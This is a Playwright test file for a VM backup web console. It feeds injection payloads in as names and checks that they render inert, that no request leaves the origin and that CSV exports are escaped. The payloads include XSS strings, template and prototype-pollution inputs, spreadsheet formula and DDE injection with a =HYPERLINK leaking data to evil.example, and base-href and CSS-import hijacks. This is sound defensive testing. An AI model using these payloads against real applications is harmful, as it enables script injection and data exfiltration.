import { readFile } from 'node:fs/promises'

import type { Page } from '@playwright/test'

import { expect, follow, inTurn, openPreflight, simulatorOf, test } from './test'

/** What someone may call a thing who wants a console to run it, or to read as something else. */
const hostile = {
  'erp-app-01': '<img src=x onerror="globalThis.pwned=1">',
  'erp-app-02': '=HYPERLINK("https://evil.example/?"&A1,"erp")',
  'erp-db-01': `"><svg/onload=globalThis.pwned=1>'`,
  'erp-db-02': 'W'.repeat(300),
  'web-frontend-01': '${globalThis.pwned=1} {{constructor.constructor("pwned=1")()}} {n} {0} %s $& $t(x)',
  'web-frontend-02': '@SUM(1+1)*cmd|" /C calc"!A0',
  'web-frontend-03': '-2+3+cmd',
  'payroll-app-01': 'invoice\u202Egpj.exe',
  'payroll-db-01': '__proto__',
  Silver: '<a href="javascript:globalThis.pwned=1">Silver</a>',
  'Every night at 01:00.': 'javascript:globalThis.pwned=1//<iframe srcdoc="<script>parent.pwned=1</script>">',
  'Costa Verde Retail': '</title><script>globalThis.pwned=1</script>',
  'Avamar London': '<style>@import "https://evil.example/x.css"</style>',
  London: '<base href="https://evil.example/">London',
} as const

const name = hostile['erp-app-01']

/** What may never happen, from now on: requests elsewhere, and questions of the browser. */
function watch(page: Page): { readonly elsewhere: readonly string[]; readonly asked: readonly string[] } {
  const elsewhere: string[] = []
  const asked: string[] = []
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url())
    if (/^https?:$/.test(protocol) && host !== new URL(page.url()).host) elsewhere.push(request.url())
  })
  page.on('dialog', (dialog) => {
    asked.push(dialog.message())
    void dialog.dismiss()
  })
  return { elsewhere, asked }
}

/** Nothing ran and nothing of it became markup. */
async function expectHarmless(page: Page): Promise<void> {
  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned')), page.url()).toBeUndefined()
  const made = page.locator('[onerror], [onload], iframe, base, img[src="x"], link[href*="evil.example"]')
  await expect(made, page.url()).toHaveCount(0)
  const links = () => page.evaluate(() => Array.from(document.links, ({ origin }) => origin))
  expect(new Set([...(await links()), new URL(page.url()).origin]).size, 'links lead nowhere else').toBe(1)
}

async function fileOf(page: Page, way: RegExp): Promise<string> {
  const saved = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Evidence', exact: true }).click()
  await page.getByRole('dialog', { name: 'Evidence' }).getByRole('button', { name: way }).click()
  return readFile(await (await saved).path(), 'utf8')
}

test('names that want to be markup, script, formulas or something else are shown as they are, and run nowhere', async ({
  page,
}) => {
  await page.goto('/vms')
  const seen = watch(page)
  const simulator = simulatorOf(page)
  await expect(page.getByLabel('User name')).toBeVisible()
  await simulator.set('settings', { texts: hostile })
  await page.getByRole('button', { name: /operator/ }).click()

  await test.step('on cards and in the table, in files and on paper', async () => {
    await expect(page.getByRole('link', { name, exact: true })).toBeVisible()
    await expectHarmless(page)
    await follow(page, '/vms?view=table')
    await expect(page.getByRole('rowheader', { name, exact: true })).toBeVisible()
    await expectHarmless(page)
    const csv = await fileOf(page, /^CSV file/)
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""erp"")"`)
    expect(csv).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`)
    expect(csv).toContain(`'-2+3+cmd,`)
    expect(csv.split(/\r\n|,/).filter((cell) => /^"?[=+@]/.test(cell))).toEqual([])
    const json = await fileOf(page, /^JSON file/)
    expect(json).toContain(JSON.stringify(name))
    await page.getByRole('button', { name: 'Evidence', exact: true }).click()
    await page.getByRole('button', { name: /^Print view/ }).click()
    const paper = page.getByRole('dialog', { name: /^Print view/ })
    await expect(paper.getByText(name, { exact: true })).toBeVisible()
    await expectHarmless(page)
    await page.keyboard.press('Escape')
  })

  await test.step('on the page of a VM: its heading, its title, its policies, results and events', async () => {
    await inTurn(
      ['', '/backup/timeline', '/backup/policies', '/backup/results', '/backup/events', '/tasks'],
      async (part) => {
        await follow(page, `/vms/13-105-1015${part}`)
        await expect(page.getByRole('heading', { level: 1, name, exact: true })).toBeVisible()
        await expect(page.getByRole('status', { name: 'Loading' })).toHaveCount(0)
        await expectHarmless(page)
      },
    )
    await expect(page).toHaveTitle(new RegExp(name.replaceAll(/[.*+?^${}()|[\]\\]/g, String.raw`\$&`)))
    await follow(page, '/vms/13-105-1015/backup/policies')
    await expect(page.getByRole('checkbox', { name: hostile.Silver })).toBeVisible()
    await expect(page.getByText(hostile['Every night at 01:00.']).first()).toBeVisible()
  })

  await test.step('in dialogs and in what is said after them', async () => {
    await follow(page, '/vms/13-105-1015/backup/results')
    const preflight = await openPreflight(page)
    await expect(preflight).toContainText(name)
    await expectHarmless(page)
    await page.keyboard.press('Escape')
    await page.getByRole('button', { name: 'Back up now' }).first().click()
    const now = page.getByRole('dialog', { name: 'Back up now' })
    await expect(now).toContainText(name)
    await now.getByRole('button', { name: 'Start the backup' }).click()
    await expect(page.getByRole('region', { name: 'What runs on this VM' })).toContainText('Backup is running')
    await follow(page, '/vms')
    await simulator.skip(5)
    await expect(page.getByRole('region', { name: 'Messages' }).getByText(name).first()).toBeVisible({
      timeout: 40_000,
    })
    await expectHarmless(page)
  })

  await test.step('in the overview, the calendar, the trail and the palette', async () => {
    await inTurn(
      ['/', '/calendar', '/events', '/roles', '/protection', '/vms/13-105-1016', '/vms?q=WWWW'],
      async (address) => {
        await follow(page, address)
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
        await expectHarmless(page)
      },
    )
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'a word of 300 letters').toBe(
      true,
    )
    await page.keyboard.press('Control+k')
    await page.keyboard.type('<img')
    await expect(page.getByRole('option').filter({ hasText: name }).first()).toBeVisible()
    await expectHarmless(page)
    await page.keyboard.press('Escape')
  })

  expect(seen).toEqual({ elsewhere: [], asked: [] })
})
